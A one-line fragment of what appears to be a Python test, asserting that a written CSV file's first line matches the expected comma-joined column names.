    assert io.StringIO(path.read_text(encoding="utf-8")).readline().strip() == ",".join(CSV_COLUMNS)
